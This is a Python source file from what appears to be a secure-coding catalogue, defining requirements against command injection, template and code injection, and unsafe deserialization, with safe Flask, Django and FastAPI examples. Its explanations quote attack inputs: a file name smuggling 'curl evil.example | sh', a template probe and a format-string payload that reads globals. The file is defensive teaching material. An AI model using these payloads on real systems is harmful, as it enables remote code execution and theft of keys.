"""Practice 2, execution: commands, code, deserialization."""

from tenfold.catalogue.model import HowTo, Requirement

REQUIREMENTS: tuple[Requirement, ...] = (
    Requirement(
        id="input.command",
        practice="input",
        title="No request data in a shell or a program name",
        asks=(
            "Commands run as a list of arguments without a shell, with a fixed program and with data that "
            "cannot be taken for an option."
        ),
        why="""\
A shell reads `;`, `|`, `$()` and line ends as commands. A file name of `x; curl evil.example | sh` then \
runs the attacker's program as your server, with your database and your keys. Even without a shell, data \
that starts with `-` can switch on a dangerous option.""",
        how=HowTo(
            flask="""\
Pass a list, keep `shell=False` (the default), end the options with `--`, and set a time limit. Better \
still: use a library.

```python
import subprocess

def thumbnail(source, target):
    subprocess.run(
        ["/usr/bin/convert", "-thumbnail", "200x200", "--", source, target],
        check=True,
        timeout=20,
        capture_output=True,
    )
```""",
            django="""\
Pass a list, keep `shell=False` (the default) and set a time limit; run slow commands in a task queue, not \
in the view.

```python
import subprocess

def is_reachable(form):
    host = form.cleaned_data["host"]  # forms.GenericIPAddressField
    return subprocess.run(["/bin/ping", "-c", "1", "--", host], timeout=5, check=False).returncode == 0
```""",
            fastapi="""\
Use `create_subprocess_exec`, never `create_subprocess_shell`, and let the type narrow the value.

```python
import asyncio
from ipaddress import IPv4Address

@app.get("/ping/{host}")
async def ping(host: IPv4Address):
    process = await asyncio.create_subprocess_exec("/bin/ping", "-c", "1", "--", str(host))
    async with asyncio.timeout(5):
        return {"reachable": await process.wait() == 0}
```""",
        ),
        cwe=(78, 88, 77),
        owasp2025=("A05:2025",),
        owasp2021=("A03:2021",),
        asvs=("1.2.5",),
        references=(
            "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html",
            "https://docs.python.org/3/library/subprocess.html#security-considerations",
        ),
    ),
    Requirement(
        id="input.code",
        practice="input",
        title="No request data in code or template source",
        asks=(
            "Request data never becomes code, an imported name, the source of a template, or a format "
            "string over objects."
        ),
        why="""\
`eval` and a template engine do what the text says. A visitor who can write `{{ 7*7 }}` into a template's \
source can usually walk from there to the operating system, and \
`"{user.__init__.__globals__}".format(user=...)` reads your settings and keys. There is no safe way to \
filter such text.""",
        how=HowTo(
            flask="""\
Give data to a template as a variable; never build the source from it. Choose functions from a mapping.

```python
from flask import render_template

FORMATS = {"csv": export_csv, "json": export_json}

def greet(name):
    return render_template("greet.html", name=name)  # not render_template_string(f"Hello {name}")

def export(kind):
    return FORMATS[kind]()  # not eval(f"export_{kind}()")
```
If users must write templates, use `jinja2.sandbox.ImmutableSandboxedEnvironment` in a separate \
process.""",
            django="""\
Render files with a context, read literals with `ast.literal_eval` or `json.loads`, and choose classes \
from a mapping.

```python
from django.shortcuts import render

REPORTS = {"sales": SalesReport, "stock": StockReport}

def report(request, kind):
    chosen = REPORTS.get(kind)  # not import_string(f"shop.reports.{kind}")
    return render(request, "report.html", {"report": chosen and chosen()})
```
Never call `Template(request.POST["body"])`; for user-written texts replace fixed placeholders with \
`string.Template`.""",
            fastapi="""\
Let an `Enum` or `Literal` choose what runs, and give templates data only.

```python
from enum import StrEnum

class Operation(StrEnum):
    SUM = "sum"
    MEAN = "mean"

RUN = {Operation.SUM: sum, Operation.MEAN: lambda numbers: sum(numbers) / len(numbers)}

@app.post("/calculate/{operation}")
def calculate(operation: Operation, numbers: list[float]):
    return RUN[operation](numbers)
```""",
        ),
        cwe=(94, 95, 1336, 134, 470),
        owasp2025=("A05:2025",),
        owasp2021=("A03:2021",),
        asvs=("1.3.2", "1.3.7", "1.3.10"),
        references=(
            "https://cheatsheetseries.owasp.org/cheatsheets/Injection_Prevention_Cheat_Sheet.html",
            "https://jinja.palletsprojects.com/en/stable/sandbox/",
            "https://docs.python.org/3/library/ast.html#ast.literal_eval",
        ),
    ),
    Requirement(
        id="input.deserialize",
        practice="input",
        title="No unsafe deserialization of request data",
        asks=(
            "Data from outside is read as JSON or another plain format, never with pickle, marshal, "
            "yaml.load or their like."
        ),
        why="""\
A pickle is a program: loading it can call any function. Whoever can hand your app a pickled cookie, \
upload, cache entry or model file runs commands on your server. YAML's full loader, jsonpickle, dill, \
shelve and `torch.load` share the fault.""",
        how=HowTo(
            flask="""\
Read JSON, and YAML only with the safe loader.

```python
import yaml
from flask import request

def load_order():
    return request.get_json()

def load_settings():
    return yaml.safe_load(request.files["settings"].stream)
```
Data that your app hands out and takes back is signed with `itsdangerous.URLSafeTimedSerializer`, which \
holds JSON.""",
            django="""\
Keep the JSON serializers (the default), also for sessions, caches and signed values.

```python
from django.core import signing

SESSION_SERIALIZER = "django.contrib.sessions.serializers.JSONSerializer"

def read_link(value):
    return signing.loads(value, max_age=3600)
```
Django's Redis and file caches pickle: keep their server unreachable from outside. For Celery set \
`accept_content = ["json"]`.""",
            fastapi="""\
Take a Pydantic model; for machine-learning files accept only formats that hold no code.

```python
from pydantic import BaseModel
from safetensors.torch import load

class Order(BaseModel):
    product_id: int
    amount: int

@app.post("/orders")
async def create_order(order: Order): ...

@app.post("/weights")
async def weights(file: UploadFile):
    return {"tensors": len(load(await file.read()))}  # not torch.load or joblib.load
```""",
        ),
        cwe=(502,),
        owasp2025=("A08:2025",),
        owasp2021=("A08:2021",),
        asvs=("1.5.2",),
        references=(
            "https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html",
            "https://docs.python.org/3/library/pickle.html",
            "https://pyyaml.org/wiki/PyYAMLDocumentation",
        ),
    ),
)
